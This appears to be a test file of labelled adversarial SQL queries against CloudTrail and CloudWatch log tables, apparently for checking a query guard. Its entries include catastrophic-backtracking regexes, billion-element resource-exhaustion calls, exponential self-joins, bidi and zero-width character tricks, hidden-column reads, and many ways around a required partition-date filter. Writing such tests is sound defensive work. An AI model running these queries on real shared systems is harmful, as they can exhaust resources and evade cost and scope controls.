select cast(eventname as codepoints) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE, PARSE: type function(bigint,bigint)
select cast(eventname as function(bigint,bigint)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE: a type within a type
select cast(eventname as array(map(varchar, geometry))) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE: a type within a row
select cast(row(1) as row(a geometry)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE: very wide char
select cast(eventname as char(65536)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE: a literal of a strange type
select geometry 'POINT (1 1)' from from_cloudtrail_readready where logcalendarday >= 20261101

-- TYPE: try_cast to a strange type
select try_cast(eventname as geometry) from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, nested plus
select regexp_like(eventname, '(a+)+$') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, nested star
select regexp_like(eventname, '(a*)*b') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, star of plus
select regexp_like(eventname, '([a-z]+)*x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, deep nesting
select regexp_like(eventname, '((a+b)*c)+') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, counted
select regexp_like(eventname, '(a+){20}') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, counted open
select regexp_like(eventname, '(a+){2,}') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, alternatives that repeat
select regexp_like(eventname, '(x|y+)+') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, group not captured
select regexp_like(eventname, '(?:a+)+') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, named group
select regexp_like(eventname, '(?<n>a+)+') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, look ahead
select regexp_like(eventname, '(?=(a+))+') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, lazy
select regexp_like(eventname, '(a+?)+?') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, possessive
select regexp_like(eventname, '(a*+)+') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, back reference
select regexp_like(eventname, '(a)\1') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, named back reference
select regexp_like(eventname, '(?<x>a)\k<x>') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, set that repeats
select regexp_like(eventname, '([^/]+)+/') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, very wide dots
select regexp_like(eventname, '.*.*.*.*.*.*.*.*x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, escaped parenthesis
select regexp_like(eventname, '(\(a+)+') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, class within a class
select regexp_like(eventname, '([a&&[b-c]]+)*') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, counted wide
select regexp_like(eventname, '((a{1,1000}){1,1000})') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: pattern, unicode class
select regexp_like(eventname, '(\p{L}+)*') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: a pattern from a column
select regexp_like(eventname, useragent) from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: a pattern put together
select regexp_extract(eventname, '(a' || '+)+') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: a long pattern
select regexp_like(eventname, '@{301*a@}') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: a pattern of a function
select regexp_replace(eventname, lower('(A+)+'), '') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: a pattern of split
select regexp_split(eventname, '(a+)+') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: a pattern of extract_all
select regexp_extract_all(eventname, '(a+)+b') from from_cloudtrail_readready where logcalendarday >= 20261101

-- REGEX: a pattern of count
select regexp_count(eventname, '(.*)*') from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: repeat
select cardinality(repeat('x', 1000000000)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: repeat of a column
select cardinality(repeat('x', length(eventname))) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: repeat of repeat
select cardinality(repeat(repeat('x', 10), 1000000)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: lpad
select lpad('x', 2000000000) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: rpad
select rpad(eventname, 100000000, 'x') from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: lpad of a column
select lpad('x', logcalendarday, 'y') from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: sequence
select cardinality(sequence(1, 1000000000)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: sequence of a column
select cardinality(sequence(1, logcalendarday)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: sequence backwards
select cardinality(sequence(1000000000, 1, -1)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: sequence of times
select cardinality(sequence(timestamp '2000-01-01 00:00:00', timestamp '2026-01-01 00:00:00', interval '1' second)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: sequence of days
select cardinality(sequence(date '0001-01-01', date '9999-12-31')) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: sequence of an expression
select cardinality(sequence(1, 1000 * 1000)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: combinations
select cardinality(combinations(split(eventname, 'a'), 5)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: repeat by a sub-query
select cardinality(repeat('x', (select count(*) from from_cloudtrail_readready where logcalendarday >= 20261101))) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: sequence without an end
select cardinality(sequence(1, 9223372036854775807)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: sequence with a step of a column
select cardinality(sequence(1, 100, logcalendarday)) from from_cloudtrail_readready where logcalendarday >= 20261101

-- RESOURCE: sequence in UNNEST
select * from from_cloudtrail_readready cross join unnest(sequence(1, 100000)) as x (n) where logcalendarday >= 20261101

-- LIST: many values in IN
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname in (@{1500*'a', @}'b')

-- LIST: many values in an array
select array[@{1500*1,@}1] from from_cloudtrail_readready where logcalendarday >= 20261101

-- LIST: many rows of VALUES
select * from (values @{1500*(1),@}(1)) as v (a) join from_cloudtrail_readready t on t.logcalendarday = v.a and t.logcalendarday >= 20261101

-- LIST: many arguments
select concat(@{1500*'a', @}'b') from from_cloudtrail_readready where logcalendarday >= 20261101

-- SIZE: very long
select * from from_cloudtrail_readready where logcalendarday >= 20261101 @{3000*and true @}

-- SIZE: a long comment
select * from from_cloudtrail_readready where logcalendarday >= 20261101 /* @{20000*x@} */

-- SIZE: a long text
select '@{20001*x@}' from from_cloudtrail_readready where logcalendarday >= 20261101

-- DEPTH: many parentheses
select @{150*(@}1@{150*)@} from from_cloudtrail_readready where logcalendarday >= 20261101

-- DEPTH: many sub-queries
select * from @{120*(@}select * from from_cloudtrail_readready where logcalendarday >= 20261101@{120*)@}

-- DEPTH: many signs
select @{4000*not @}true from from_cloudtrail_readready where logcalendarday >= 20261101

-- DEPTH: a long sum
select 1@{5000*+1@} from from_cloudtrail_readready where logcalendarday >= 20261101

-- DEPTH: many brackets
select @{150*array[@}1@{150*]@} from from_cloudtrail_readready where logcalendarday >= 20261101

-- DEPTH: many functions
select @{110*lower(@}eventname@{110*)@} from from_cloudtrail_readready where logcalendarday >= 20261101

-- DEPTH: long concatenation
select eventname@{900*||'a'@} from from_cloudtrail_readready where logcalendarday >= 20261101

-- DEPTH: many cases
select @{150*case when true then @}1@{150* end@} from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: zero width space in a text
select 'a<U+200b>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: zero width joiner in a text
select 'a<U+200d>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: right to left override in a text
select 'a<U+202e>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: left to right mark in a text
select 'a<U+200e>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: isolate in a text
select 'a<U+2066>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: byte order mark in a text
select 'a<U+feff>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: null in a text
select 'a<U+0>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: bell in a text
select 'a<U+7>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: escape in a text
select 'a<U+1b>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: vertical tab in a text
select 'a<U+b>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: soft hyphen in a text
select 'a<U+ad>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: private use in a text
select 'a<U+e000>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: unassigned in a text
select 'a<U+378>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: line separator in a text
select 'a<U+2028>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: paragraph separator in a text
select 'a<U+2029>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: tag letter in a text
select 'a<U+e0041>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: hangul filler in a text
select 'a<U+3164>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: next line in a text
select 'a<U+85>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: lone surrogate in a text
select 'a<U+d800>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: variation selector in a text
select 'a<U+fe0f>b' from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: zero width space in a name
select * from from_cloud<U+200b>trail_readready where logcalendarday >= 20261101

-- CHAR: override in a comment
select * /* <U+202e> */ from from_cloudtrail_readready where logcalendarday >= 20261101

-- CHAR: letters by number
select U&'\0041' from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: a blank that is none
select<U+a0>* from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: wide letters
select * from ｆｒｏｍ_cloudtrail_readready where logcalendarday >= 20261101

-- PARSE: curly quotes
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname = ‘x’

-- CHAR: a name by number
select * from U&"from_cloudtrail\005fraw"<U+200b> where logcalendarday >= 20261101

-- PARTITION: bound, no bound
select * from from_cloudtrail_readready

-- PARTITION: bound, no bound, other condition
select * from from_cloudtrail_readready where eventname = 'x'

-- PARTITION: bound, only an end
select * from from_cloudtrail_readready where logcalendarday <= 20261101

-- PARTITION: bound, another day
select * from from_cloudtrail_readready where eventtime >= timestamp '2026-11-01 00:00:00'

-- PARTITION: bound, or true
select * from from_cloudtrail_readready where logcalendarday >= 20261101 or true

-- PARTITION: bound, or another column
select * from from_cloudtrail_readready where logcalendarday >= 20261101 or eventname = 'x'

-- PARTITION: bound, one branch without
select * from from_cloudtrail_readready where (logcalendarday = 20261120 and eventname = 'a') or (eventname = 'b')

-- PARTITION: bound, one of three branches without
select * from from_cloudtrail_readready where logcalendarday = 20261120 or logcalendarday = 20261119 or eventid = 'x'

-- PARTITION: bound, an end in one branch
select * from from_cloudtrail_readready where logcalendarday >= 20261120 or logcalendarday <= 20261101

-- PARTITION: bound, not
select * from from_cloudtrail_readready where not (logcalendarday < 20261101)

-- PARTITION: bound, not equal
select * from from_cloudtrail_readready where logcalendarday <> 20261101

-- PARTITION: bound, is not null
select * from from_cloudtrail_readready where logcalendarday is not null

-- PARTITION: bound, distinct from
select * from from_cloudtrail_readready where logcalendarday is not distinct from 20261101

-- PARTITION: bound, too early
select * from from_cloudtrail_readready where logcalendarday >= 0

-- PARTITION: bound, negative
select * from from_cloudtrail_readready where logcalendarday >= -1

-- PARTITION: bound, a little too early
select * from from_cloudtrail_readready where logcalendarday >= 20000101

-- PARTITION: bound, an early one of a list
select * from from_cloudtrail_readready where logcalendarday in (1, 20261120)

-- PARTITION: bound, between from 0
select * from from_cloudtrail_readready where logcalendarday between 0 and 99999999

-- PARTITION: bound, arithmetic on the column
select * from from_cloudtrail_readready where logcalendarday + 0 >= 20261101

-- PARTITION: bound, function of the column
select * from from_cloudtrail_readready where abs(logcalendarday) >= 20261101

-- PARTITION: bound, cast of the column
select * from from_cloudtrail_readready where cast(logcalendarday as varchar) >= '20261101'

-- PARTITION: bound, coalesce
select * from from_cloudtrail_readready where coalesce(logcalendarday, 20261101) >= 20261101

-- PARTITION: bound, itself
select * from from_cloudtrail_readready where logcalendarday >= logcalendarday

-- PARTITION: bound, another column
select * from from_cloudtrail_readready where logcalendarday >= cast(recipientaccountid as bigint)

-- PARTITION: bound, a sub-query
select * from from_cloudtrail_readready where logcalendarday >= (select min(logcalendarday) from from_cloudtrail_readready where logcalendarday >= 20261101)

-- PARTITION: bound, in a sub-query
select * from from_cloudtrail_readready where logcalendarday in (select logcalendarday from from_cloudtrail_readready where logcalendarday >= 20261101)

-- PARTITION: bound, in case
select * from from_cloudtrail_readready where case when logcalendarday >= 20261101 then true else true end

-- PARTITION: bound, in if
select * from from_cloudtrail_readready where if(logcalendarday >= 20261101, true, true)

-- PARTITION: bound, in having
select logcalendarday, count(*) from from_cloudtrail_readready group by 1 having logcalendarday >= 20261101

-- PARTITION: bound, in the filter of an aggregate
select count(*) filter (where logcalendarday >= 20261101) from from_cloudtrail_readready

-- PARTITION: bound, in a comment
select * from from_cloudtrail_readready -- where logcalendarday >= 20261101

-- PARTITION: bound, in a text
select 'where logcalendarday >= 20261101' from from_cloudtrail_readready

-- PARTITION: bound, outside of the sub-query
select * from (select * from from_cloudtrail_readready) x where logcalendarday >= 20261101

-- PARTITION: bound, outside of WITH
with x as (select * from from_cloudtrail_readready) select * from x where logcalendarday >= 20261101

-- PARTITION: bound, an alias of that name
select * from (select 20261120 as logcalendarday, eventname from from_cloudtrail_readready) x where logcalendarday >= 20261101

-- PARTITION: bound, only one of two tables
select * from from_cloudtrail_readready t join from_cloudwatch_readready w on t.f_sessionid = w.f_sessionid where t.logcalendarday >= 20261101

-- PARTITION: bound, equal to the other's day
select * from from_cloudtrail_readready t join from_cloudwatch_readready w on t.f_sessionid = w.f_sessionid and t.logcalendarday = w.logcalendarday where t.logcalendarday >= 20261101

-- PARTITION: bound, the seed's left join
SELECT t.useridentity_arn, w.loggroup FROM loglake.from_cloudtrail_readready t LEFT OUTER JOIN loglake.from_cloudwatch_readready w ON t.f_sessionid = w.f_sessionid WHERE t.logcalendarday > 20240601

-- PARTITION: bound, left side in the ON of a left join
select * from from_cloudtrail_readready t left join from_cloudwatch_readready w on t.f_sessionid = w.f_sessionid and t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- PARTITION: bound, right side in the ON of a right join
select * from from_cloudtrail_readready t right join from_cloudwatch_readready w on t.f_sessionid = w.f_sessionid and t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- PARTITION: bound, full join by its ON
select * from from_cloudtrail_readready t full join from_cloudwatch_readready w on t.f_sessionid = w.f_sessionid and t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- PARTITION: bound, correlated
select * from from_cloudtrail_readready t where exists (select 1 from from_cloudwatch_readready w where w.f_sessionid = t.f_sessionid and w.logcalendarday >= 20261101 and t.logcalendarday >= 20261101)

-- PARTITION: bound, inner one by the outer
select * from from_cloudtrail_readready t where t.logcalendarday >= 20261101 and exists (select 1 from from_cloudwatch_readready w where w.f_sessionid = t.f_sessionid and t.logcalendarday >= 20261101)

-- PARTITION: bound, one part of a union
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select eventname from from_cloudtrail_readready

-- PARTITION: bound, an unused WITH
with x as (select * from from_cloudtrail_readready) select * from from_cloudtrail_readready where logcalendarday >= 20261101

-- PARTITION: bound, random
select * from from_cloudtrail_readready where logcalendarday >= 20261101 and eventname = 'a' or eventname = 'b'

-- PARTITION: bound, a number with a point
select * from from_cloudtrail_readready where logcalendarday >= 20261101.0

-- PARTITION: bound, a text
select * from from_cloudtrail_readready where logcalendarday >= '20261101'

-- PARTITION: bound, by all
select * from from_cloudtrail_readready where logcalendarday >= all (values 20261101)

-- PARTITION: bound, an early date by the clock
select * from from_cloudtrail_readready where logcalendarday >= cast(date_format(current_date - interval '100' year, '%Y%m%d') as bigint)

-- PARTITION: bound, wrong pattern
select * from from_cloudtrail_readready where logcalendarday >= cast(date_format(current_date, '%d%m%Y') as bigint)

-- PARTITION: bound, try around
select * from from_cloudtrail_readready where try(logcalendarday >= 20261101)

-- PARTITION: bound, is true
select * from from_cloudtrail_readready where (logcalendarday >= 20261101) = true

-- PARTITION: bound, nullif
select * from from_cloudtrail_readready where nullif(logcalendarday, 1) >= 20261101

-- PARTITION: bound, negated twice
select * from from_cloudtrail_readready where not not (logcalendarday >= 20261101)

-- PARTITION: bound, order of branches
select * from from_cloudtrail_readready where eventname = 'a' or (eventname = 'b' and logcalendarday >= 20261101)

-- PARTITION: bound, window
select * from (select *, max(logcalendarday) over () as d from from_cloudtrail_readready) x where d >= 20261101

-- CROSS_JOIN: comma
select * from from_cloudtrail_readready t, from_cloudwatch_readready w where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- CROSS_JOIN: cross join
select * from from_cloudtrail_readready t cross join from_cloudwatch_readready w where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- CROSS_JOIN: on true
select * from from_cloudtrail_readready t join from_cloudwatch_readready w on true where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- CROSS_JOIN: on a range
select * from from_cloudtrail_readready t join from_cloudwatch_readready w on t.eventtime > w.eventtime where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- CROSS_JOIN: on an or
select * from from_cloudtrail_readready t join from_cloudwatch_readready w on t.f_sessionid = w.f_sessionid or true where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- CROSS_JOIN: on itself
select * from from_cloudtrail_readready t join from_cloudwatch_readready w on t.eventid = t.eventid where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- CROSS_JOIN: on constants
select * from from_cloudtrail_readready t join from_cloudwatch_readready w on 1 = 1 where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- CROSS_JOIN: third table loose
select * from from_cloudtrail_readready t join from_cloudwatch_readready w on t.f_sessionid = w.f_sessionid cross join loglake_decisions d where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101 and d.logcalendarday >= 20261101

-- CROSS_JOIN: sub-queries
select * from (select * from from_cloudtrail_readready where logcalendarday >= 20261101) a cross join (select * from from_cloudtrail_readready where logcalendarday >= 20261101) b

-- CROSS_JOIN: names of WITH
with x as (select * from from_cloudtrail_readready where logcalendarday >= 20261101) select * from x a, x b

-- CROSS_JOIN: not equal
select * from from_cloudtrail_readready t join from_cloudtrail_readready u on t.eventid <> u.eventid where t.logcalendarday >= 20261101 and u.logcalendarday >= 20261101

-- RELATIONS: nine tables
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 union all select eventname from from_cloudtrail_readready where logcalendarday >= 20261101

-- RELATIONS: doubling by WITH
with a as (select eventid from from_cloudtrail_readready where logcalendarday >= 20261101), b as (select x.eventid from a x join a y on x.eventid = y.eventid), c as (select x.eventid from b x join b y on x.eventid = y.eventid), d as (select x.eventid from c x join c y on x.eventid = y.eventid), e as (select x.eventid from d x join d y on x.eventid = y.eventid), f as (select x.eventid from e x join e y on x.eventid = y.eventid), g as (select x.eventid from f x join f y on x.eventid = y.eventid) select * from g

-- COLUMN: column, misspelt
select usridentity_arn from from_cloudtrail_readready where logcalendarday >= 20261101

-- COLUMN: column, of another table
select loggroup from from_cloudtrail_readready where logcalendarday >= 20261101

-- COLUMN: column, in where
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 and secret = 1

-- COLUMN: column, in order by
select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 order by nothing

-- COLUMN: column, in group by
select count(*) from from_cloudtrail_readready where logcalendarday >= 20261101 group by nothing

-- COLUMN: column, ambiguous
select eventtime from from_cloudtrail_readready t join from_cloudwatch_readready w on t.f_sessionid = w.f_sessionid where t.logcalendarday >= 20261101 and w.logcalendarday >= 20261101

-- COLUMN: column, of an unknown alias
select x.eventname from from_cloudtrail_readready t where t.logcalendarday >= 20261101

-- COLUMN: column, of the table behind an alias
select from_cloudtrail_readready.eventname from from_cloudtrail_readready t where t.logcalendarday >= 20261101

-- COLUMN: column, hidden path
select "$path" from from_cloudtrail_readready where logcalendarday >= 20261101

-- COLUMN: column, hidden bucket
select "$bucket" from from_cloudtrail_readready where logcalendarday >= 20261101

-- COLUMN: column, hidden size
select "$file_size" from from_cloudtrail_readready where logcalendarday >= 20261101

-- COLUMN: column, hidden partition
select "$partition" from from_cloudtrail_readready where logcalendarday >= 20261101

-- COLUMN: column, hidden time
select "$file_modified_time" from from_cloudtrail_readready where logcalendarday >= 20261101

-- COLUMN: column, too few names
with x (a) as (select eventname, eventid from from_cloudtrail_readready where logcalendarday >= 20261101) select * from x

-- COLUMN: column, too many names
select * from (select eventname from from_cloudtrail_readready where logcalendarday >= 20261101) as x (a, b)

-- COLUMN: column, not seen from a sub-query
select * from from_cloudtrail_readready t join (select t.eventname as n from from_cloudwatch_readready w where w.logcalendarday >= 20261101) x on x.n = t.eventname where t.logcalendarday >= 20261101

-- COLUMN: column, an alias in where
select eventname as n from from_cloudtrail_readready where logcalendarday >= 20261101 and n = 'x'

-- STAR: star of nothing
select x.* from from_cloudtrail_readready t where t.logcalendarday >= 20261101

-- STAR, PARSE: star of a value
select (row(1, 2)).* from from_cloudtrail_readready where logcalendarday >= 20261101

-- STAR, PARSE, EXPR: star with names
select (cast(row(1) as row(a int))).* as (b) from from_cloudtrail_readready where logcalendarday >= 20261101

-- STAR, NO_TABLE: star without a table
select *

-- LIMIT: fetch first
select * from from_cloudtrail_readready where logcalendarday >= 20261101 fetch first 10 rows only

-- LIMIT: with ties
select * from from_cloudtrail_readready where logcalendarday >= 20261101 order by eventid fetch first 1 row with ties

-- LIMIT: limit all
select * from from_cloudtrail_readready where logcalendarday >= 20261101 limit all

-- LIMIT: limit of a parameter
select * from from_cloudtrail_readready where logcalendarday >= 20261101 limit ?

-- LIMIT: offset of a parameter
select * from from_cloudtrail_readready where logcalendarday >= 20261101 offset ? rows

-- PARSE, LIMIT: limit of an expression
select * from from_cloudtrail_readready where logcalendarday >= 20261101 limit 5 + 5

-- PARSE, LIMIT: limit of a sub-query
select * from from_cloudtrail_readready where logcalendarday >= 20261101 limit (select 1)

-- LIMIT: limit all in a sub-query
select * from (select eventname from from_cloudtrail_readready where logcalendarday >= 20261101 limit all) x

-- NO_TABLE: no table
select 1

-- NO_TABLE: values
values 1, 2

-- NO_TABLE: a table that is not read
with x as (select * from from_cloudtrail_readready where logcalendarday >= 20261101) select 1

-- NO_TABLE: unnest only
select * from unnest(array[1, 2]) as x (a)
